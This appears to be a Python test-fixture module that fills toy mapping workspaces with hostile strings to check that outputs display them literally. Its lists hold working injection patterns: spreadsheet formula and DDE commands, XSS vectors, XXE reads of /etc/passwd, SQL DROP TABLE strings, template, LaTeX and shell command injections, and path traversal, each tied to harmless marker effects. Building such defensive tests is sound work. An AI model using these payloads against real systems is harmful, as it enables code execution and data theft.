"""Hostile texts: words that some program on the way could take for its own language.

A workspace may hold every one of `STRINGS` in every free field, and every product must show it as
it is written. What would run leaves one of three traces, which no product and no run may show:
`RAN`, a name that scripts set on the window; `PRODUCT`, what 7919*7907 comes to; `FILE`, a file
that commands write.

`write` makes one of `ROUNDS` toy workspaces; over all of them every text stands in every field.
"""

from __future__ import annotations

import csv
import io
import json
import math
import tempfile
from collections.abc import Mapping
from functools import cache
from pathlib import Path

import toy

from lienket import pipeline
from lienket.model.atlas import Atlas

RAN = "__ran"
PRODUCT = "62615533"
FILE = "lienket-ran"

JOINT = " ¶ "
"""Between the texts of a field of which a workspace has fewer than there are texts."""

KINDS: Mapping[str, tuple[str, ...]] = {
    "formula": (
        "=7919*7907",
        "=1+1",
        "+7919*7907",
        "-7919*7907",
        "@SUM(7919*7907)",
        "=cmd|'/c touch lienket-ran'!A0",
        "+cmd|' /C touch lienket-ran'!'A1'",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        '=HYPERLINK("https://example.org/?"&A1;"Xem")',
        '=WEBSERVICE("https://example.org/")',
        '=IMPORTXML("https://example.org/";"//a")',
        '=DDE("soffice";"lienket-ran";"A1")',
        "=INDIRECT(\"'Tổng hợp'!A1\")",
        '=RTD("a.b";;"c")',
        "＝7919*7907",
        "＠SUM(7919*7907)",
        '"=7919*7907"',
        "'=7919*7907",
        "{=7919*7907}",
        "=A1:A9",
        "=#REF!",
        "#N/A #VALUE! #NAME?",
        "%0A=7919*7907",
    ),
    "markup": (
        "<script>window.__ran=1</script>",
        "</script><script>window.__ran=1</script>",
        "</SCRIPT ><SCRIPT>window.__ran=1//",
        "<!--<script>window.__ran=1",
        "--><script>window.__ran=1</script><!--",
        "--!><img src=x onerror=window.__ran=1>",
        "<img src=x onerror=window.__ran=1>",
        '"><img src=x onerror=window.__ran=1>',
        "'><img src=x onerror=window.__ran=1>",
        '" onmouseover="window.__ran=1',
        "' onfocus='window.__ran=1' autofocus='",
        "x onpointerenter=window.__ran=1 y",
        "`><img src=x onerror=window.__ran=1>",
        "<svg onload=window.__ran=1>",
        "<svg><script>window.__ran=1</script></svg>",
        "<svg><animate onbegin=window.__ran=1 attributeName=x dur=1s>",
        '<svg><a xlink:href="javascript:window.__ran=1"><text y=9>Đường</text></a></svg>',
        "<math><mtext></p><script>window.__ran=1</script>",
        "<iframe srcdoc='<script>parent.__ran=1</script>'>",
        "<details open ontoggle=window.__ran=1>",
        "<body onload=window.__ran=1>",
        "<input autofocus onfocus=window.__ran=1>",
        "<a href=javascript:window.__ran=1>Đường</a>",
        "javascript:window.__ran=1",
        "JaVaScRiPt:window.__ran=1//",
        "&#106;avascript:window.__ran=1",
        "data:text/html,<script>parent.__ran=1</script>",
        "vbscript:__ran=1",
        "https://example.org/\"onclick='window.__ran=1'",
        "//example.org/x.js",
        "</style><script>window.__ran=1</script>",
        "</title><script>window.__ran=1</script>",
        "</textarea><script>window.__ran=1</script>",
        "</noscript><script>window.__ran=1</script>",
        "<template><script>window.__ran=1</script></template>",
        "<style>@import 'https://example.org/a.css';</style>",
        "<style>*{display:none}</style>",
        "};*{display:none}",
        "expression(window.__ran=1)",
        "url(javascript:window.__ran=1)",
        "red;background:url(//example.org/a)",
        "<base href=//example.org/>",
        "<meta http-equiv=refresh content=0;url=//example.org/>",
        "<link rel=stylesheet href=//example.org/a.css>",
        "<object data=//example.org/a></object>",
        "<form action=//example.org/><button>Gửi</button></form>",
        "<b>Đậm</b>",
        "<p>",
        "</div></div></body></html>",
        "a < b > c & d",
        "<br>",
    ),
    "entity": (
        "&lt;script&gt;window.__ran=1&lt;/script&gt;",
        "&#60;b&#62;",
        "&amp;amp;",
        "&nbsp;",
        "&notanentity;",
        "&#x0;",
        "&",
        "AT&T; B&B",
        "&copy=1",
    ),
    "xml": (
        "]]>",
        "<![CDATA[x]]>",
        "]]]]><![CDATA[>",
        "<?xml version='1.0'?>",
        "<?php echo 7919*7907 ?>",
        "<% 7919*7907 %>",
        '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>',
        '<!ENTITY a "b">&a;',
        "&xxe;",
        "--",
        "<a xmlns='x:y'/>",
        "</name></Placemark></Folder>",
        "<w:p/><w:instrText>AUTHOR</w:instrText>",
        "</w:t></w:r></w:p>",
        "<xi:include href='/etc/passwd' parse='text'/>",
        "_x003C_b_x003E_",
    ),
    "script": (
        "'-window.__ran=1-'",
        '";window.__ran=1;//',
        "\\';window.__ran=1;//",
        "${window.__ran=1}",
        "`${window.__ran=1}`",
        "\\u003cscript\\u003ewindow.__ran=1\\u003c/script\\u003e",
        "\\x3cscript\\x3e",
        "*/window.__ran=1/*",
        "//# sourceMappingURL=x",
        "constructor",
        "__proto__",
        "toString",
        "hasOwnProperty",
        "prototype",
        "valueOf",
        "undefined",
        "null",
        "NULL",
        "None",
        "nil",
        "NaN",
        "nan",
        "Infinity",
        "-inf",
        "true",
        "false",
        "TRUE",
        "yes",
        "[object Object]",
        "[]",
        "{}",
        '{"key": null}',
    ),
    "template": (
        "{{7919*7907}}",
        "{{ 7919*7907 }}",
        "{{constructor.constructor('window.__ran=1')()}}",
        "{% for x in y %}{{x}}",
        "{# x #}",
        "{%- raw %}",
        "#{7919*7907}",
        "${7919*7907}",
        "{0}",
        "{}{}",
        "{name}",
        "{name!r:>{width}}",
        "{0.__class__.__mro__}",
        "{",
        "}",
        "{{",
        "%s %d %n",
        "%(name)s",
        "%",
        "100 %",
        "%%",
        "%1 %2 %L1",
        "$name ${name}",
    ),
    "qgis": (
        "[% 7919*7907 %]",
        "[%7919*7907%]",
        "[% eval('7919*7907') %]",
        '[% "name_vi" %]',
        "[% @project_path %]",
        "@project_title",
        "@layer_name",
        '"name_vi"',
        "'name_vi'",
        "$geometry",
        "concat('a', 7919*7907)",
        "||",
        "a' || 7919*7907 || 'b",
        "' OR '1'='1",
        '" = "key" OR "1" = "1',
        "expression('7919*7907')",
        "roads|layername=x",
        "?query=select 1",
    ),
    "sql": (
        "'; DROP TABLE links; --",
        "Robert'); DROP SCHEMA lienket CASCADE; --",
        '"; DROP TABLE roads; --',
        "$$; SELECT 7919*7907; $$",
        "$body$ x $body$",
        "/* x */",
        "E'\\\\x41'",
        "a\\",
        "\\. \\N",
        "100%_",
        "%' LIKE '%",
        "[a-z]_",
        "it''s",
        "\\'",
    ),
    "letters of plots": (
        "$x^2$",
        "$\\frac{1}{2}$",
        "a $ b",
        "a $ b $ c",
        "$",
        "\\$5",
        "^_^",
        "a_b^c",
        "$\\alpha",
        "\\LaTeX{} \\input{/etc/passwd}",
        "\\write18{touch lienket-ran}",
        "\\begin{document}",
        "~#%&{}\\",
    ),
    "drawing": (
        "%%d %%p %%c",
        "%%u%%o",
        "%%65",
        "\\PXuống dòng\\P",
        "{\\fArial|b1;Đậm}",
        "{\\C1;Đỏ}",
        "\\U+1EC7",
        "\\M+5B4AC",
        "^J^I^M",
        "\\S1/2;",
        "\\~\\L\\l",
        "%<\\AcVar Date>%",
        "(command)",
    ),
    "shell": (
        "$(touch lienket-ran)",
        "`touch lienket-ran`",
        "; touch lienket-ran",
        "& touch lienket-ran &",
        "|| touch lienket-ran",
        "| touch lienket-ran",
        "a\\nb",
        "!!",
        "%PATH%",
        "$HOME",
        "-rf",
        "--help",
        "~",
        "*",
        "> lienket-ran",
        "__import__('os').system('touch lienket-ran')",
        "#!/bin/sh",
        "# lời",
    ),
    "path": (
        "../../../../etc/passwd",
        "..\\..\\windows",
        "/etc/passwd",
        "C:\\Windows\\System32",
        "file:///etc/passwd",
        "\\\\server\\share",
        "..",
        "CON",
        "NUL.txt",
        "LPT1",
        "a/b",
        "a:b*c?d",
        "Đường | Đoạn",
        "name.",
        ".hidden",
        "a#b?c=d&e",
        "%2e%2e%2f",
        "%C4%91",
    ),
    "marks of text": (
        "# Đầu đề",
        "* mục",
        "[x](javascript:window.__ran=1)",
        "![x](//example.org/a.png)",
        "**đậm** _nghiêng_ ~~bỏ~~",
        "| a | b |",
        "> lời dẫn",
        ".*+?^${}()|[]\\",
        "(a+)+$",
        "(",
        "[",
        "\\",
        "\\d+(?=x)",
        "a;b;c",
        "a,b,c",
        'a "b" c',
        "a 'b' c",
        "“a” ‘b’ «c» „d‟ ′e″",
        "'",
        '"',
        '""',
        "''",
        "`",
        '",',
        '";"',
        ".",
        "...",
        "…",
        "–",
        "—",
        "-",
        "!@#$%^&*()",
        "¿¡§¶†‡•",
        "№ ℃ ½ ² ₂ ™ ©",
    ),
    "number": (
        "1234567890",
        "0",
        "-0",
        "007",
        "0x10",
        "1E5",
        "1e308",
        "1E400",
        "1.0",
        "1,5",
        "12.000",
        "1.234.567,89",
        "1/2",
        "2024-05-02",
        "2/5/2024",
        "5-2",
        "MAR1",
        "SEPT2",
        "2:30",
        "12:00:00",
        "65 %",
        "5 km",
        "12345678901234567890",
        "00000000000000000001",
        "١٢٣٤",
        "１２３",
        "+84 204 123 456",
    ),
    "space": (
        "  đầu",
        "cuối  ",
        "hai  dấu   cách",
        "không\u00a0ngắt",
        "\u00a0",
        "hẹp\u202fhẹp",
        "\u3000toàn góc\u3000",
        "a\u2003b\u2009c",
    ),
    "script of another land": (
        "高平省与谅山省之间的公路",
        "道路（国道第一号线）",
        "경기도 고속도로",
        "طريق سريع بين المقاطعتين",
        "כביש מהיר 12 בין המחוזות",
        "Đường طريق 12 כביש km",
        "ถนนระหว่างจังหวัดกำแพงเพชร",
        "ផ្លូវជាតិលេខ១",
        "မြန်မာလမ်း",
        "राष्ट्रीय राजमार्ग",
        "தமிழ் சாலை",
        "Дорога между провинциями",
        "Δρόμος μεταξύ",
        "ถนนที่นี่ปั๊มน้ำ",
        "ལམ་ཆེན་",
        "ᠮᠣᠩᠭᠣᠯ",
        "İıŞşĞğ ßẞ ŉ ǅ",
        "Nguyễn Ðình Ƣơng Ằ Ẵ Ặ",
    ),
    "rare letter": (
        "\u00e2\u0331\u0331\u0316\u0317\u0318\u0319 x\u0336\u0337\u0338\u0488\u0489",
        "q\u0303\u0304\u0305\u0306\u0307\u0308\u030a\u030b\u030c" * 3,
        "👨\u200d👩\u200d👧\u200d👦 gia đình",
        "👩🏽\u200d🚀 🏳\ufe0f\u200d🌈",
        "🇻🇳 🚧 🛣\ufe0f",
        "𝕳𝖆 𝓗𝓾𝓾 𝟏𝟐𝟑",
        "𠮷野家 𪚥",
        "𓂀𓃰 𐎀𐎁",
        "🀄🃏🂡",
        "ﷺ ﷽",
        "ﬁ ﬀ ſ",
        "ＦＵＬＬ ｗｉｄｔｈ",
        "Ａ１＝Ｂ２",
        "①②③ Ⅷ ㎞",
        "⠓⠑⠇⠇⠕",
    ),
    "length": (
        "Đ" + "ường" * 500,
        "0" * 2000,
        "Đường tỉnh nối hai huyện, " * 80 + "hết",
        "a-" * 400 + "a",
        "公" * 700,
        "/x" * 300,
    ),
}
"""Texts by the program or the habit that could take them for something else; all in NFC."""

STRINGS: tuple[str, ...] = tuple(dict.fromkeys(text for texts in KINDS.values() for text in texts))

LINES = (
    "dòng một\n=7919*7907\n-7919*7907",
    'a\n"b\n\n\nc"',
    "\\n\n{{7919*7907}}\n]]>\n<script>window.__ran=1</script>",
)
"""Texts of several lines, for the fields that may have them."""

REFUSED: tuple[str, ...] = (
    *(f"a{chr(code)}b" for code in (*range(1, 9), 11, 12, *range(14, 32), *range(0x7F, 0xA0))),
    "a\t=7919*7907",
    "a\tb",
    "a\nb",
    "a\rb",
    "a\ufffeb",
    "a\uffffb",
    "e\u0302\u0301",
    "Huye\u0323\u0302n",
)
"""What no name may hold: controls, line ends, what is no letter, letters in pieces (NFD)."""

FORMATS = tuple(
    f"a{chr(code)}b"
    for code in (0xAD, 0x61C, *range(0x200B, 0x2010), *range(0x2028, 0x202F),
                 *range(0x2060, 0x2070), 0xE000, 0xF8FF, 0xFEFF, 0xE0041, 0xF0000)
)  # fmt: skip
"""Letters without a look of their own, which end lines, turn, hide or divide others, or which each
font has as it likes: taken or refused, never a failure."""

ROUNDS = 6

_ROWS = math.ceil((len(STRINGS) + len(LINES)) / ROUNDS)
"""How many rows a table of facts needs in each round."""

_LEADING = ("formula", "shell", "drawing")
"""Kinds that count as such only at the start of a field."""

_LAYERS, _SHEETS, _COLUMNS, _FIGURES = 6, 1, 4, _ROWS

_LINED = ("note_", "says_", "follows_", "why_", "what_", "reason_")
"""Fields that may have several lines."""

FIELDS: Mapping[str, int] = {
    **dict.fromkeys(("workspace.title_vi", "workspace.title_en", "workspace.epoch"), 1),
    **dict.fromkeys(("workspace.notice_vi", "workspace.notice_en", "workspace.contact"), 1),
    **dict.fromkeys(("side.name_vi", "side.name_en", "side.code"), 2),
    **dict.fromkeys(("layer.title_vi", "layer.title_en", "layer.source_date"), _LAYERS),
    **dict.fromkeys(("layer.licence", "layer.credit"), _LAYERS),
    **dict.fromkeys(("country.title_vi", "country.title_en", "country.source_date"), 1),
    **dict.fromkeys(("country.licence", "country.credit"), 1),
    **dict.fromkeys(("known.reason_vi", "known.reason_en"), 2),
    **dict.fromkeys(("sheet.title_vi", "sheet.title_en"), _SHEETS),
    **dict.fromkeys(("district.name_vi", "district.name_en", "district.code"), 4),
    **dict.fromkeys(("road.name_vi", "road.name_en", "road.ref"), 6),
    **dict.fromkeys(("place.name_vi", "place.name_en", "place.note"), _ROWS),
    **dict.fromkeys(("source.title_vi", "source.title_en", "source.issuer"), _ROWS),
    **dict.fromkeys(("source.number", "source.address", "source.licence"), _ROWS),
    **dict.fromkeys(("link.name_vi", "link.name_en", "link.partners"), _ROWS),
    **dict.fromkeys(("part.name_vi", "part.name_en"), _ROWS),
    **dict.fromkeys(("status.locator", "status.note_vi", "status.note_en"), _ROWS),
    **dict.fromkeys(("figure.measure", "figure.label_vi", "figure.label_en"), _FIGURES),
    **dict.fromkeys(("figure.value", "figure.unit", "figure.locator"), _FIGURES),
    **dict.fromkeys(("figure.note_vi", "figure.note_en"), _FIGURES),
    **dict.fromkeys(("doubt.topic_vi", "doubt.topic_en", "doubt.says_vi", "doubt.says_en"), _ROWS),
    **dict.fromkeys(("doubt.follows_vi", "doubt.follows_en"), _ROWS),
    **dict.fromkeys(("doubt.why_vi", "doubt.why_en"), _ROWS),
    **dict.fromkeys(("request.asked_vi", "request.asked_en"), _ROWS),
    **dict.fromkeys(("request.what_vi", "request.what_en", "request.locator"), _ROWS),
    **dict.fromkeys(("waypoint.name_vi", "waypoint.name_en"), _ROWS),
    **dict.fromkeys(("waypoint.note_vi", "waypoint.note_en"), _ROWS),
    **dict.fromkeys(("speed.road_class", "speed.locator"), _ROWS),
    **dict.fromkeys(("speed.note_vi", "speed.note_en"), _ROWS),
}
"""Every free field, and how many of it one workspace has."""

LISTS = ("link.partners",)
"""Fields that a semicolon divides."""


def fits(field: str, text: str) -> bool:
    """Whether a field can hold a text as it is: a body that is asked has two halves, and no list.

    >>> fits("request.asked_vi", "a;b"), fits("link.name_vi", "a;b")
    (False, True)
    """
    if field.startswith("request.asked"):
        return ";" not in text and " | " not in f" {text} " and bool(text.strip())
    if field.startswith("place.name"):
        return bool(text.strip())
    return bool(stored(field, text))


def stored(field: str, text: str) -> str:
    """What a workspace holds of a text in a field: cells of CSV lose the spaces at their ends."""
    table = field.partition(".")[0]
    plain = table in {"workspace", "side", "layer", "country", "known", "sheet", "district", "road"}
    return text if plain or table == "place" else text.strip()


@cache
def _texts(field: str) -> tuple[str, ...]:
    """The texts that stand in a field, turned so that each row has many of them."""
    lines = LINES if field.rpartition(".")[2].startswith(_LINED) else ()
    found = [text for text in (*STRINGS, *lines) if fits(field, text)]
    start = 37 * [*FIELDS].index(field) % len(found)
    return tuple(found[start:] + found[:start])


def _leads(text: str) -> bool:
    return any(text in KINDS[kind] for kind in _LEADING)


def dealt(field: str, number: int) -> list[tuple[str, ...]]:
    """The texts that a field has in round `number`, for each place that it stands in."""
    texts, places = _texts(field), FIELDS[field] * ROUNDS
    texts += texts[: max(0, places - len(texts))]
    return [
        tuple(sorted(texts[place::places], key=_leads, reverse=True))
        for place in range(number * FIELDS[field], (number + 1) * FIELDS[field])
    ]


def value(field: str, number: int, place: int) -> str:
    """What a field holds in round `number`, at its place `place`."""
    return JOINT.join(dealt(field, number)[place])


def held(field: str, number: int) -> list[str]:
    """The texts that a product has to show of a field in round `number`."""
    return [stored(field, text) for texts in dealt(field, number) for text in texts]


# --- a workspace of them -----------------------------------------------------------------------

GROUND = ("places", "springs", "markets")
"""Layers of points beside those of the toy country."""

_OWN = '"Số làn = 2", "a\'b_{c}", "note"'
"""Columns that a layer brings, named with marks that have a meaning elsewhere."""


def write(folder: Path, number: int) -> Path:
    """Write the hostile workspace of round `number` (0 … `ROUNDS` - 1) to `folder`; the folder."""
    toy.write(folder)
    (folder / "catalogue.toml").write_text(_catalogue(number), encoding="utf-8")
    (folder / "known.toml").write_text(_known(number), encoding="utf-8")
    sheet = {"key": "hostile", **_named("sheet", number, 0)}
    (folder / "sheets.toml").write_text(_toml("[[sheet]]", sheet), encoding="utf-8")
    for name, rows in _facts(number).items():
        _append(folder / "facts" / f"{name}.csv", rows, number)
    for name, features in _features(number).items():
        content = toy.collection(features)
        (folder / f"{name}.geojson").write_text(content, encoding="utf-8")
    return folder


@cache
def atlas(number: int) -> Atlas:
    """The hostile workspace of round `number`, joined; made once."""
    with tempfile.TemporaryDirectory() as folder:
        return pipeline.atlas(write(Path(folder) / "workspace", number))


def _named(table: str, number: int, place: int) -> dict[str, str]:
    """The fields of a row of `table` that hold hostile texts."""
    fields = [field for field in FIELDS if field.startswith(f"{table}.")]
    return {field.partition(".")[2]: value(field, number, place) for field in fields}


def _toml(head: str, values: Mapping[str, object]) -> str:
    lines = [f"{name} = {json.dumps(held, ensure_ascii=False)}" for name, held in values.items()]
    return "\n".join([head, *lines, "", ""])


def _catalogue(number: int) -> str:
    head = {
        "id": "toy",
        "measuring_crs": "EPSG:3405",
        "bounds": [104.5, 20.5, 106.5, 22.5],
        "sides_layer": "districts",
        "report": "rep",
        **_named("workspace", number, 0),
    }
    sides = [
        {"key": key, "crs": code, **_named("side", number, place)}
        for place, (key, code) in enumerate((("aa", "EPSG:9214"), ("bb", "EPSG:9215")))
    ]
    outline = {"file": "country.geojson", **_named("country", number, 0)}
    parts = [_toml("[workspace]", head), *(_toml("[[side]]", side) for side in sides)]
    parts.append(_toml("[country]", outline))
    points = [(name, '"Point"', "false", "", 4, _OWN, "false") for name in GROUND]
    for place, row in enumerate((*toy.LAYERS, *points)):
        names = ("key", "geometry", "status", "title_vi", "order", "columns", "coverage")
        values = dict(zip(names, row, strict=True))
        told = [
            f'key = "{values["key"]}"',
            f'file = "{values["key"]}.geojson"',
            *(f"{name} = {values[name]}" for name in ("status", "order", "coverage")),
            *(f"{name} = [{values[name]}]" for name in ("geometry", "columns")),
        ]
        parts.append("\n".join(["[[layer]]", *told, _toml("", _named("layer", number, place))]))
    return "\n".join(parts)


def _known(number: int) -> str:
    keys = ("ra--aa", "ra--bb")
    rows = [{"key": key, "metres": 9, **_named("known", number, n)} for n, key in enumerate(keys)]
    return "\n".join(_toml("[[dropped]]", row) for row in rows)


def _facts(number: int) -> dict[str, list[dict[str, object]]]:
    """The rows that round `number` adds to the tables of the toy country."""
    found: dict[str, list[dict[str, object]]] = {name: [] for name in (*toy.FACTS, "speeds")}
    for place in range(_ROWS):
        named = {
            table: _named(table, number, place)
            for table in ("source", "link", "part", "status", "figure", "doubt", "request")
        }
        key, part = f"h{place}", f"many--{('aa', 'bb')[place % 2]}-{place}"
        body = named["request"]
        asked = f"{body.pop('asked_vi')} {place} | {body.pop('asked_en')} {place}"
        told = {"stated_on": "2024-05-02", "source": key, "inferred": "no", **named["status"]}
        works = {"condition": "in_service", "work": "none"}
        rows: dict[str, dict[str, object]] = {
            "sources": {"id": key, "date": "2024-01-01", **named["source"]},
            "links": {"key": key, "kind": "bus", "sides": "aa;bb", "publish": "public",
                      **named["link"]},
            "parts": {"key": part, "side": ("aa", "bb")[place % 2], **named["part"]},
            "statuses": {"subject": key, "stage": "agreed", **told},
            # With a unit a figure is a number.
            "figures": {"subject": key, "source": key, **named["figure"], "unit": ""},
            "doubts": {"key": key, "subjects": key, "sources": "rep;news", **named["doubt"]},
            "requests": {"key": key, "asker": "aa", "asked": asked, "subjects": key,
                         "source": key, **body},
            "waypoints": {"part": "rc--aa", "seq": 1 + (place + 1) / 100, "error_m": 900,
                          "lon": round(105.1 + 0.4 * (place + 1) / (_ROWS + 2), 6), "lat": 21.2,
                          "source": "osm", **_named("waypoint", number, place)},
            "speeds": {"speed_kmh": 40 + place, "access": "yes", "source": "rep",
                       **_named("speed", number, place)},
        }  # fmt: skip
        for name, row in rows.items():
            found[name].append(row)
        found["statuses"].append({"subject": part, **works, **told})
        number_of = {"subject": part, "source": key, **named["figure"], "value": place + 2}
        found["figures"].append(number_of)
    many = ";".join(str(row["key"]) for row in found["parts"])
    found["links"].append({"key": "many", "kind": "route", "name_vi": "Nhiều", "name_en": "Many",
                           "sides": "aa;bb", "parts": many, "publish": "public"})  # fmt: skip
    return found


def _append(path: Path, rows: list[dict[str, object]], number: int) -> None:
    """Add rows to a table of the toy country, or begin the one of speeds."""
    begun = path.read_text(encoding="utf-8") if path.exists() else ""
    header = (
        begun.partition("\n")[0] or "road_class,speed_kmh,access,source,locator,note_vi,note_en"
    )
    before: list[dict[str, object]] = [*csv.DictReader(io.StringIO(begun, newline=""))]
    if path.stem == "parts":
        for place, row in enumerate(before):
            named = _named("road", number, place)
            row |= {name: named[name] for name in ("name_vi", "name_en")}
    with path.open("w", encoding="utf-8", newline="") as target:
        writer = csv.DictWriter(target, header.split(","), restval="", lineterminator="\n")
        writer.writeheader()
        writer.writerows([*before, *rows])


def _features(number: int) -> dict[str, list[dict[str, object]]]:
    found = toy.toy_features()
    for table, name in (("district", "districts"), ("road", "roads")):
        for place, row in enumerate(found[name]):
            properties = row["properties"]
            assert isinstance(properties, dict)
            properties |= _named(table, number, place)
    box = [[[104, 20], [107, 20], [107, 23], [104, 23], [104, 20]]]
    found["country"] = [toy.feature("land", "Polygon", box)]
    for layer, name in enumerate(GROUND):
        found[name] = [
            toy.feature(
                f"{name}-{place}",
                "Point",
                [105.1 + 0.02 * place, 21.1 + 0.05 * layer],
                **{"Số làn = 2": place / 2, "a'b_{c}": None, **_named("place", number, place)},
            )
            for place in range(layer, _ROWS, len(GROUND))
        ]
    return found
